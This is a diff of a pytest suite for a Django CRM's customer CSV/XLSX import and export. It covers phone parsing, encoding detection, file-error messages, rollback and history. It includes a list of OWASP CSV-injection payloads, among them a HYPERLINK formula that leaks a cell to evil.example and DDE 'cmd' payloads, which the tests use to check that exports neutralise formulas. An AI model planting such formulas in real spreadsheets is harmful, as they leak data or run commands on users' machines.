@@ -1,15 +1,16 @@
-"""CSV/XLSX import and export of customers with tier and phones (crm/resources.py)."""
+"""CSV/XLSX import and export of customers (crm/tables.py, crm/imports.py, crm/exports.py)."""
 
-from http import HTTPStatus
+import io
+import zipfile
 
 import pytest
-import tablib
-from django.core.files.uploadedfile import SimpleUploadedFile
 from django.core.management import call_command
-from django.urls import reverse
+from openpyxl import Workbook, load_workbook
 
+from crm.exports import iter_rows, neutralise, write_csv, write_xlsx
+from crm.imports import format_phones, parse_phones, run_import
 from crm.models import Customer, CustomerPhone
-from crm.resources import CustomerResource, format_phones, parse_phones
+from crm.tables import ImportFileError, open_table
 from tests.factories import CustomerPhoneFactory
 from tests.servers import ROOT
 
@@ -17,22 +18,60 @@ pytestmark = pytest.mark.django_db
 
 SAMPLE = ROOT / "fixtures" / "customers-sample.csv"
 HEADER = "customer_id,first_name,last_name,tier,last_interaction_date,notes,phones"
+PHONE_HINT = "Use e.g. mobile:+15551234567; work:(555) 987-6543."
+
+# OWASP "CSV Injection" payloads, and the cells spreadsheets treat as formulas.
+PAYLOADS = [
+    '=HYPERLINK("http://evil.example/?"&A1,"click")',
+    "=cmd|' /C calc'!A0",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "+1+1",
+    "-2+3",
+    '=1+2";=1+2',
+    "\t=1+1",
+    "\r=1+1",
+]
 
 
-def csv_dataset(*lines: str) -> tablib.Dataset:
-    return tablib.Dataset().load("\n".join([HEADER, *lines]) + "\n", format="csv")
+def write(tmp_path, content: bytes | str, name: str = "f.csv") -> str:
+    path = tmp_path / name
+    path.write_bytes(content.encode() if isinstance(content, str) else content)
+    return str(path)
+
+
+def csv_file(tmp_path, *lines: str) -> str:
+    return write(tmp_path, "\n".join([HEADER, *lines]) + "\n")
+
+
+def preview(path: str):
+    return run_import(open_table(path), apply=False)
+
+
+def apply(path: str):
+    return run_import(open_table(path), apply=True)
 
 
 def snapshot() -> list:
     """Every customer and phone, to compare before and after an import."""
-    customers = list(Customer.objects.order_by("pk").values_list("customer_id", "first_name", "tier__name", "notes"))
+    customers = list(
+        Customer.objects.order_by("pk").values_list(
+            "customer_id", "first_name", "tier__name", "notes", "last_interaction_date"
+        )
+    )
     phones = list(CustomerPhone.objects.order_by("pk").values_list("customer__customer_id", "number", "label"))
     return [customers, phones]
 
 
-def row_errors(result) -> dict[int, dict[str, list[str]]]:
-    """{row number: {column: [messages]}} of an import result's invalid rows."""
-    return {row.number: row.error_dict for row in result.invalid_rows}
+def phones_of(customer_id: str) -> list[tuple[str, str]]:
+    return [
+        (str(n), label)
+        for n, label in CustomerPhone.objects.filter(customer__customer_id=customer_id)
+        .order_by("number")
+        .values_list("number", "label")
+    ]
+
+
+# -- phones cell -----------------------------------------------------------------------
 
 
 def test_parse_phones_accepts_labels_and_any_format():
@@ -49,8 +88,7 @@ def test_parse_phones_names_every_bad_entry():
     with pytest.raises(ValueError) as error:
         parse_phones("12345; work:+15551234567; home:abc")
     assert str(error.value) == (
-        "'12345' is not a possible phone number; 'abc' is not a possible phone number. "
-        "Use e.g. mobile:+15551234567; work:(555) 987-6543."
+        f"'12345' is not a possible phone number; 'abc' is not a possible phone number. {PHONE_HINT}"
     )
 
 
@@ -60,41 +98,161 @@ def test_format_phones():
     )
 
 
-def test_export_csv_one_row_per_customer(alice, bob):
+# -- export ------------------------------------------------------------------------------
+
+
+def test_export_csv_one_row_per_customer_with_bom(alice, bob, tmp_path):
     CustomerPhoneFactory(customer=alice, number="+15550100199", label="work")
-    exported = CustomerResource().export(Customer.objects.all()).csv
-    assert exported.replace("\r\n", "\n") == (
+    path = tmp_path / "out.csv"
+    assert write_csv(str(path), iter_rows()) == 2
+    assert path.read_bytes().startswith(b"\xef\xbb\xbf")
+    assert path.read_text(encoding="utf-8-sig").replace("\r\n", "\n") == (
         f"{HEADER}\n"
         "CUST-001,Alice,Smith,Gold,2023-10-15,,mobile:+15551234567; work:+15550100199\n"
         "CUST-002,Bob,Jones,Silver,2023-11-01,,mobile:+15559876543\n"
     )
 
 
-def test_export_runs_a_fixed_number_of_queries(alice, bob, django_assert_num_queries):
-    with django_assert_num_queries(3):  # count, customers with tier, then all their phones
-        CustomerResource().export(CustomerResource().get_queryset())
+def test_export_runs_two_queries_per_chunk(alice, bob, django_assert_num_queries):
+    with django_assert_num_queries(3):  # customers with tier, their phones, the empty next chunk
+        assert len(list(iter_rows())) == 2
+
+
+@pytest.mark.parametrize("payload", PAYLOADS)
+def test_neutralise_prefixes_formula_cells(payload):
+    assert neutralise(payload) == "'" + payload
+    assert neutralise("Alice") == "Alice"
+
+
+def test_csv_export_neutralises_every_owasp_payload_and_import_restores_them(alice, tmp_path):
+    for n, payload in enumerate(PAYLOADS):
+        Customer.objects.create(customer_id=f"CUST-9{n:02d}", first_name=payload, last_name="X", tier=alice.tier)
+    path = tmp_path / "out.csv"
+    write_csv(str(path), iter_rows())
+    import csv
+
+    with open(path, encoding="utf-8-sig", newline="") as fh:
+        rows = list(csv.reader(fh))
+    first_names = [row[1] for row in rows[2:]]
+    assert first_names == ["'" + p for p in PAYLOADS]
+    # The apostrophe is ours: importing the export changes nothing.
+    outcome = apply(str(path))
+    assert outcome.error_count == 0 and outcome.totals == {"new": 0, "update": 0, "skip": 9, "invalid": 0}
+
+
+def test_xlsx_export_writes_formula_payloads_as_text(alice, tmp_path):
+    for n, payload in enumerate(PAYLOADS):
+        Customer.objects.create(customer_id=f"CUST-9{n:02d}", first_name=payload, last_name="=X", tier=alice.tier)
+    path = tmp_path / "out.xlsx"
+    assert write_xlsx(str(path), iter_rows()) == 9
+    with zipfile.ZipFile(path) as archive:
+        sheet = archive.read("xl/worksheets/sheet1.xml").decode()
+    assert "<f>" not in sheet and "<f " not in sheet
+    cells = load_workbook(path).active
+    values = [(cells.cell(row=r, column=2).value, cells.cell(row=r, column=2).data_type) for r in range(3, 11)]
+    assert all(data_type == "s" for _, data_type in values)
+    assert [v for v, _ in values][:7] == PAYLOADS[:7]
+    outcome = apply(str(path))
+    # Cells are trimmed on import, so the two led by a tab or CR come back without it.
+    assert outcome.error_count == 0 and outcome.totals["skip"] == 7
+
+
+def test_xlsx_round_trip_changes_nothing(alice, bob, tmp_path):
+    before = snapshot()
+    path = tmp_path / "out.xlsx"
+    write_xlsx(str(path), iter_rows())
+    outcome = apply(str(path))
+    assert outcome.totals == {"new": 0, "update": 0, "skip": 2, "invalid": 0}
+    assert snapshot() == before
+
+
+# -- import: rules --------------------------------------------------------------------
 
 
 def test_sample_file_imports_cleanly_then_reimport_changes_nothing():
     call_command("loaddata", "demo", verbosity=0)
-    dataset = tablib.Dataset().load(SAMPLE.read_text(), format="csv")
-    result = CustomerResource().import_data(dataset)
-    assert not result.has_errors() and not result.has_validation_errors()
-    assert result.totals["new"] == 5
-    assert list(Customer.objects.get(customer_id="CUST-105").phones.values_list("number", "label")) == [
-        ("+15550100106", "work"),
-        ("+15550100107", "mobile"),
-    ]
+    outcome = apply(str(SAMPLE))
+    assert outcome.error_count == 0 and outcome.totals == {"new": 5, "update": 0, "skip": 0, "invalid": 0}
+    assert phones_of("CUST-105") == [("+15550100106", "work"), ("+15550100107", "mobile")]
     before = snapshot()
-    again = CustomerResource().import_data(tablib.Dataset().load(SAMPLE.read_text(), format="csv"))
-    assert (again.totals["skip"], again.totals["new"], again.totals["update"]) == (5, 0, 0)
-    assert [row.import_type for row in again.rows] == ["skip"] * 5  # reported, not hidden
+    again = apply(str(SAMPLE))
+    assert again.totals == {"new": 0, "update": 0, "skip": 5, "invalid": 0}
     assert snapshot() == before
 
 
-def test_preview_lists_every_row_error_and_writes_nothing(alice):
+def test_preview_shows_phones_of_new_rows():
+    call_command("loaddata", "demo", verbosity=0)
+    outcome = preview(str(SAMPLE))
+    assert outcome.changes[0] == {
+        "row": 2,
+        "customer_id": "CUST-101",
+        "action": "new",
+        "fields": [
+            ["first_name", "", "Carol"],
+            ["last_name", "", "Diaz"],
+            ["tier", "", "Gold"],
+            ["last_interaction_date", "", "2024-02-03"],
+            ["notes", "", "Prefers email follow-up"],
+        ],
+        "phones": ["", "mobile:+15550100101; work:+15550100102"],
+    }
+    assert Customer.objects.count() == 2  # the preview wrote nothing
+
+
+def test_empty_phones_cell_keeps_every_phone(tmp_path):
+    """Finding 2: the last cell empty must not delete Carol's two numbers."""
+    call_command("loaddata", "demo", verbosity=0)
+    apply(str(SAMPLE))
+    path = csv_file(tmp_path, "CUST-101,Carol,Diaz,Gold,2024-02-03,Prefers email follow-up,")
+    shown = preview(path)
+    assert shown.totals == {"new": 0, "update": 0, "skip": 1, "invalid": 0} and shown.changes == []
+    assert apply(path).error_count == 0
+    assert phones_of("CUST-101") == [("+15550100101", "mobile"), ("+15550100102", "work")]
+
+
+def test_empty_cells_change_nothing_and_none_clears(alice, tmp_path):
+    alice.notes = "VIP"
+    alice.save()
+    path = csv_file(tmp_path, "CUST-001,,,,,,")
+    assert preview(path).totals["skip"] == 1
+    path = csv_file(tmp_path, "CUST-001,,,,none,NONE,none")
+    outcome = preview(path)
+    assert outcome.changes == [
+        {
+            "row": 2,
+            "customer_id": "CUST-001",
+            "action": "update",
+            "fields": [["last_interaction_date", "2023-10-15", ""], ["notes", "VIP", ""]],
+            "phones": ["mobile:+15551234567", ""],
+        }
+    ]
+    assert apply(path).error_count == 0
+    alice.refresh_from_db()
+    assert (alice.notes, alice.last_interaction_date, phones_of("CUST-001")) == ("", None, [])
+
+
+def test_phones_cell_lists_all_phones_and_preview_shows_before_and_after(alice, bob, tmp_path):
+    path = csv_file(tmp_path, "CUST-001,Alice,Smith,Silver,2023-10-15,VIP,work:+15551234567; home:+15550100401")
+    outcome = preview(path)
+    assert outcome.changes == [
+        {
+            "row": 2,
+            "customer_id": "CUST-001",
+            "action": "update",
+            "fields": [["tier", "Gold", "Silver"], ["notes", "", "VIP"]],
+            "phones": ["mobile:+15551234567", "work:+15551234567; home:+15550100401"],
+        }
+    ]
+    assert apply(path).totals["update"] == 1
+    assert phones_of("CUST-001") == [("+15550100401", "home"), ("+15551234567", "work")]
+    apply(csv_file(tmp_path, "CUST-001,Alice,Smith,Silver,2023-10-15,VIP,+15550100401"))
+    assert phones_of("CUST-001") == [("+15550100401", "mobile")]
+
+
+def test_preview_lists_every_row_error_and_writes_nothing(alice, tmp_path):
     before = snapshot()
-    dataset = csv_dataset(
+    path = csv_file(
+        tmp_path,
         "CUST-201,Ann,Bad,Gold,,,12345",
         "CUST-202,Ben,Tier,Platinum,,,+15550100201",
         "CUST-203,Cat,Dup,Gold,,,+15550100202",
@@ -102,146 +260,183 @@ def test_preview_lists_every_row_error_and_writes_nothing(alice):
         "CUST-205,Eve,Taken,Gold,,,555-123-4567",
         ",Fay,NoId,Gold,,,+15550100203",
         "CUST-206,Gus,Twice,Gold,,,+15550100204; work:+15550100204",
-        "CUST-207,Hal,Fine,Gold,,,+15550100205",
+        "CUST X9 <b>,Hal,Odd,Gold,,,",
+        "cust-203,Ida,Again,Gold,,,",
+        "CUST-207,Jo,Date,Gold,03/02/2024,,",
+        "CUST-208,,NoFirst,Gold,,,",
+        "CUST-209,Kim,Fine,Gold,,,+15550100205",
     )
-    result = CustomerResource().import_data(dataset, dry_run=True)
-    assert row_errors(result) == {
-        1: {"phones": ["'12345' is not a possible phone number. Use e.g. mobile:+15551234567; work:(555) 987-6543."]},
-        2: {"tier": ["Unknown tier 'Platinum'; tiers are: Gold."]},
-        3: {"phones": ["+15550100202 is also in row 4 of this file."]},
-        4: {"phones": ["+15550100202 is also in row 3 of this file."]},
-        5: {"phones": ["+15551234567 already belongs to customer CUST-001."]},
-        6: {"customer_id": ["Missing customer ID."]},
-        7: {"phones": ["+15550100204 is listed twice in this row."]},
-    }
-    assert result.totals["new"] == 1  # row 8 alone is fine
+    outcome = preview(path)
+    assert [(e["row"], e["column"], e["message"]) for e in outcome.errors] == [
+        (2, "phones", f"'12345' is not a possible phone number. {PHONE_HINT}"),
+        (3, "tier", "Unknown tier 'Platinum'; tiers are: Gold."),
+        (5, "phones", "+15550100202 is also in row 4 of this file."),
+        (6, "phones", "+15551234567 already belongs to customer CUST-001."),
+        (7, "customer_id", "Missing customer ID."),
+        (8, "phones", "+15550100204 is listed twice in this row."),
+        (
+            9,
+            "customer_id",
+            "'CUST X9 <B>' is not a valid customer ID: 1-32 letters, digits, '.', '_' or '-', starting with a "
+            "letter or digit, e.g. CUST-001. Stored upper-case; spaces around it are removed.",
+        ),
+        (10, "customer_id", "CUST-203 is also in row 4 of this file."),
+        (11, "last_interaction_date", "'03/02/2024' is not a date; use YYYY-MM-DD, e.g. 2024-02-03."),
+        (12, "first_name", "Missing first name (required for a new customer)."),
+    ]
+    assert outcome.totals == {"new": 2, "update": 0, "skip": 0, "invalid": 10}
     assert snapshot() == before
 
 
-def test_one_bad_row_rolls_back_the_whole_import(alice):
+def test_one_bad_row_rolls_back_the_whole_import(alice, tmp_path):
     before = snapshot()
-    dataset = csv_dataset(
+    path = csv_file(
+        tmp_path,
         "CUST-301,Ivy,Good,Gold,,,+15550100301",
         "CUST-001,Alice,Smith,Gold,2023-10-15,changed,mobile:+15551234567",
         "CUST-302,Jon,Bad,Gold,,,not a number",
     )
-    result = CustomerResource().import_data(dataset, dry_run=False)
-    assert row_errors(result) == {
-        3: {
-            "phones": [
-                "'not a number' is not a possible phone number. Use e.g. mobile:+15551234567; work:(555) 987-6543."
-            ]
-        }
-    }
+    outcome = apply(path)
+    assert [(e["row"], e["column"]) for e in outcome.errors] == [(4, "phones")]
     assert snapshot() == before
 
 
-def test_missing_tier_is_a_row_error(alice):
-    result = CustomerResource().import_data(csv_dataset("CUST-401,Kim,NoTier,,,,"), dry_run=True)
-    assert row_errors(result) == {1: {"tier": ["Missing tier."]}}
-
-
-def test_reimport_updates_fields_and_replaces_phones(alice, bob):
-    dataset = csv_dataset("CUST-001,Alice,Smith,Silver,2023-10-15,VIP,work:+15551234567; home:+15550100401")
-    result = CustomerResource().import_data(dataset)
-    assert not result.has_errors() and not result.has_validation_errors()
-    assert result.totals["update"] == 1
-    alice.refresh_from_db()
-    assert (alice.tier.name, alice.notes) == ("Silver", "VIP")
-    assert list(alice.phones.order_by("number").values_list("number", "label")) == [
-        ("+15550100401", "home"),
-        ("+15551234567", "work"),
-    ]
-    # Dropping a number from the cell removes it from the customer.
-    CustomerResource().import_data(csv_dataset("CUST-001,Alice,Smith,Silver,2023-10-15,VIP,+15550100401"))
-    assert list(alice.phones.values_list("number", "label")) == [("+15550100401", "mobile")]
-
-
-def test_changed_phone_alone_is_not_skipped(alice):
-    result = CustomerResource().import_data(csv_dataset("CUST-001,Alice,Smith,Gold,2023-10-15,,+15550100501"))
-    assert result.totals["update"] == 1
-    assert list(alice.phones.values_list("number", flat=True)) == ["+15550100501"]
-
-
-def test_file_without_phones_column_keeps_phones(alice):
-    dataset = tablib.Dataset().load("customer_id,first_name,last_name,tier\nCUST-001,Alicia,Smith,Gold\n", "csv")
-    result = CustomerResource().import_data(dataset)
-    assert result.totals["update"] == 1
-    alice.refresh_from_db()
-    assert alice.first_name == "Alicia"
-    assert list(alice.phones.values_list("number", flat=True)) == ["+15551234567"]
-
-
-def test_xlsx_round_trip_changes_nothing(alice, bob):
+def test_rollback_spans_batches(alice, tmp_path, monkeypatch):
+    monkeypatch.setattr("crm.imports.BATCH_SIZE", 2)
     before = snapshot()
-    xlsx = CustomerResource().export(Customer.objects.all()).xlsx
-    result = CustomerResource().import_data(tablib.Dataset().load(xlsx, format="xlsx"))
-    assert (result.totals["skip"], result.totals["new"], result.totals["update"]) == (2, 0, 0)
+    lines = [f"CUST-4{n:02d},N{n},L,Gold,,,+1555020{n:04d}" for n in range(7)] + ["CUST-499,Bad,L,Nope,,,"]
+    outcome = apply(csv_file(tmp_path, *lines))
+    assert outcome.error_count == 1 and outcome.totals["new"] == 7
     assert snapshot() == before
 
 
-# -- through the admin ----------------------------------------------------------------
+def test_customer_ids_are_trimmed_and_upper_cased(alice, tmp_path):
+    apply(csv_file(tmp_path, " cust-501 ,Lea,Low,Gold,,,", "cust-001,Alicia,,,,,"))
+    assert list(Customer.objects.order_by("customer_id").values_list("customer_id", "first_name")) == [
+        ("CUST-001", "Alicia"),
+        ("CUST-501", "Lea"),
+    ]
 
 
-def upload(client, name: str, content: bytes, fmt: int = 0):
-    """POST a file to the import page; format 0 is CSV, 1 is XLSX (CustomerAdmin.import_formats)."""
-    return client.post(
-        reverse("admin:crm_customer_import"),
-        {"resource": "0", "format": str(fmt), "import_file": SimpleUploadedFile(name, content)},
+def test_import_records_one_history_entry_per_customer(alice, tmp_path, admin_user):
+    path = csv_file(
+        tmp_path, "CUST-001,Alicia,,Gold,,,work:+15551234567; home:+15550100601", "CUST-602,New,Person,Gold,,,"
     )
+    run_import(open_table(path), apply=True, user=admin_user, reason="Import job #7 (f.csv)")
+    records = list(Customer.history.filter(history_change_reason="Import job #7 (f.csv)").order_by("customer_id"))
+    assert [(r.customer_id, r.history_type, r.first_name, r.history_user) for r in records] == [
+        ("CUST-001", "~", "Alicia", admin_user),
+        ("CUST-602", "+", "New", admin_user),
+    ]
+    phone_records = CustomerPhone.history.filter(history_change_reason="Import job #7 (f.csv)")
+    assert sorted((str(r.number), r.label, r.history_type) for r in phone_records) == [
+        ("+15550100601", "home", "+"),
+        ("+15551234567", "work", "~"),
+    ]
 
 
-def test_admin_preview_shows_row_errors_and_offers_no_confirm(admin_client, alice):
-    content = f"{HEADER}\nCUST-601,Lea,Ok,Gold,,,+15550100601\nCUST-602,Max,Bad,Gold,,,12345\n".encode()
-    response = upload(admin_client, "bad.csv", content)
-    assert response.status_code == HTTPStatus.OK
-    assert "confirm_form" not in response.context
-    page = response.content.decode()
-    assert "Some rows failed to validate" in page
-    assert "&#x27;12345&#x27; is not a possible phone number" in page
-    assert row_errors(response.context["result"]) == {
-        2: {"phones": ["'12345' is not a possible phone number. Use e.g. mobile:+15551234567; work:(555) 987-6543."]}
-    }
-    assert not Customer.objects.filter(customer_id__in=["CUST-601", "CUST-602"]).exists()
+# -- import: files -------------------------------------------------------------------
 
 
-def test_admin_import_preview_then_confirm_then_reimport_is_skipped(admin_client):
-    call_command("loaddata", "demo", verbosity=0)
-    response = upload(admin_client, "customers-sample.csv", SAMPLE.read_bytes())
-    assert response.status_code == HTTPStatus.OK
-    assert not Customer.objects.filter(customer_id="CUST-101").exists()  # preview writes nothing
-    confirm = response.context["confirm_form"]
-    done = admin_client.post(reverse("admin:crm_customer_process_import"), confirm.initial)
-    assert done.status_code == HTTPStatus.FOUND
-    assert Customer.objects.filter(customer_id__startswith="CUST-10").count() == 5
-    again = upload(admin_client, "customers-sample.csv", SAMPLE.read_bytes())
-    assert again.context["result"].totals["skip"] == 5
-    assert again.context["result"].totals["new"] == 0
+ROW = "CUST-701,Zoë,Müller,Gold,2024-01-02,Café,+15550100701"
 
 
-def test_admin_confirm_rolls_back_when_a_row_fails_after_preview(admin_client, alice):
-    content = f"{HEADER}\nCUST-701,Ned,Ok,Gold,,,+15550100701\nCUST-702,Ola,Ok,Gold,,,+15550100702\n".encode()
-    response = upload(admin_client, "ok.csv", content)
-    confirm = response.context["confirm_form"]
-    # Between preview and confirm someone else takes the second number.
-    CustomerPhoneFactory(customer=alice, number="+15550100702")
-    result = admin_client.post(reverse("admin:crm_customer_process_import"), confirm.initial)
-    assert result.status_code == HTTPStatus.FOUND
-    assert not Customer.objects.filter(customer_id__in=["CUST-701", "CUST-702"]).exists()
+@pytest.mark.parametrize(
+    ("encoding", "delimiter", "kind"),
+    [
+        ("utf-8", ",", "CSV (UTF-8, ','-separated)"),
+        ("utf-8-sig", ",", "CSV (UTF-8 WITH BOM, ','-separated)"),
+        ("utf-16", "\t", "CSV (UTF-16, tab-separated)"),
+        ("cp1252", ";", "CSV (CP1252, ';'-separated)"),
+        ("latin-1", ";", "CSV (CP1252, ';'-separated)"),
+    ],
+)
+def test_encodings_and_delimiters_are_detected(alice, tmp_path, encoding, delimiter, kind):
+    text = f"{HEADER}\r\n{ROW}\r\n".replace(",", delimiter)
+    table = open_table(write(tmp_path, text.encode(encoding)))
+    assert table.kind == kind
+    outcome = run_import(table, apply=True)
+    assert outcome.error_count == 0, outcome.errors
+    customer = Customer.objects.get(customer_id="CUST-701")
+    assert (customer.first_name, customer.last_name, customer.notes) == ("Zoë", "Müller", "Café")
 
 
-def test_admin_export_csv(admin_client, alice):
-    response = admin_client.post(
-        reverse("admin:crm_customer_export"), {"format": "0", "resource": "0", **export_fields()}
-    )
-    assert response.status_code == HTTPStatus.OK
-    assert response["Content-Type"] == "text/csv"
-    assert response.content.decode().replace("\r\n", "\n") == (
-        f"{HEADER}\nCUST-001,Alice,Smith,Gold,2023-10-15,,mobile:+15551234567\n"
-    )
+def test_header_columns_in_any_order_and_case(alice, tmp_path):
+    path = write(tmp_path, "Phones;Customer ID;Tier;First Name;Last Name\n+15550100801;cust-801;gold;Ann;Lee\n")
+    assert apply(path).error_count == 0
+    assert phones_of("CUST-801") == [("+15550100801", "mobile")]
 
 
-def export_fields() -> dict:
-    """The export form's field checkboxes, all ticked."""
-    names = ["customer_id", "first_name", "last_name", "tier", "last_interaction_date", "notes", "phones"]
-    return {f"customerresource_{name}": "on" for name in names}
+@pytest.mark.parametrize(
+    ("content", "message"),
+    [
+        (
+            "id,name,phone\n1,Ann,+15550100901\n",
+            "The header row does not match (missing: customer_id, first_name, last_name, tier; unknown: id, name, "
+            "phone). Expected the columns customer_id, first_name, last_name, tier, and optionally "
+            "last_interaction_date, notes, phones (in any order). Found: id, name, phone.",
+        ),
+        (
+            "customer_id,first_name,last_name,tier,tier\n",
+            "The header row does not match (listed twice: tier). Expected the columns customer_id, first_name, "
+            "last_name, tier, and optionally last_interaction_date, notes, phones (in any order). "
+            "Found: customer_id, first_name, last_name, tier, tier.",
+        ),
+        ("", "The file is empty."),
+        (
+            "\n",
+            "The header row does not match (missing: customer_id, first_name, last_name, tier). Expected the "
+            "columns customer_id, first_name, last_name, tier, and optionally last_interaction_date, notes, phones "
+            "(in any order). Found: (nothing).",
+        ),
+        (b"%PDF-1.4\n%\xe2\xe3", "This file is not a CSV or XLSX spreadsheet: it looks like a PDF document."),
+        (b"\x89PNG\r\n\x1a\n\x00\x00", "This file is not a CSV or XLSX spreadsheet: it looks like a PNG image."),
+        (
+            b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1",
+            "This file is not a CSV or XLSX spreadsheet: it looks like an old Excel .xls (or Word .doc) file: "
+            "save it as .xlsx or CSV and upload that.",
+        ),
+        (bytes(range(256)) * 4, "This file is not a CSV or XLSX spreadsheet: it contains binary data."),
+        (b"PK\x03\x04broken zip", "This file is not a readable XLSX workbook (or a CSV): save it from Excel again."),
+        (
+            f"{HEADER}\nCUST-1,A,B,Gold,,,,extra\n",
+            "Row 2 has 8 cells but the header has 7 columns. Check for a separator inside an unquoted cell.",
+        ),
+    ],
+)
+def test_file_problems_have_clear_messages(db, tmp_path, content, message):
+    with pytest.raises(ImportFileError) as error:
+        table = open_table(write(tmp_path, content))
+        list(table.rows)
+    assert str(error.value) == message
+
+
+def test_oversize_cell_is_refused_with_the_limit(db, tmp_path, settings):
+    settings.CRM_IMPORT_MAX_CELL_CHARS = 100
+    path = csv_file(tmp_path, "CUST-1,A,B,Gold,,short,", f"CUST-2,A,B,Gold,,{'x' * 5000},")
+    with pytest.raises(ImportFileError) as error:
+        list(open_table(path).rows)
+    assert str(error.value) == "Row 3: a cell is longer than the limit of 100 characters."
+
+
+def test_oversize_file_is_refused_with_the_limit(db, tmp_path, settings):
+    settings.CRM_IMPORT_MAX_FILE_MB = 1
+    path = write(tmp_path, HEADER + "\n" + "x" * (1024 * 1024 + 10))
+    with pytest.raises(ImportFileError) as error:
+        open_table(path)
+    assert str(error.value) == "The file is 1.0 MB; the limit is 1 MB. Split it into smaller files."
+
+
+def test_xlsx_import_reads_dates_and_numbers(alice, tmp_path):
+    import datetime
+
+    workbook = Workbook()
+    sheet = workbook.active
+    sheet.append(["customer_id", "first_name", "last_name", "tier", "last_interaction_date", "phones"])
+    sheet.append(["cust-950", "Ann", "Lee", "Gold", datetime.datetime(2024, 2, 3), 15550100950])
+    buffer = io.BytesIO()
+    workbook.save(buffer)
+    assert apply(write(tmp_path, buffer.getvalue(), "f.xlsx")).error_count == 0
+    customer = Customer.objects.get(customer_id="CUST-950")
+    assert str(customer.last_interaction_date) == "2024-02-03"
+    assert phones_of("CUST-950") == [("+15550100950", "mobile")]
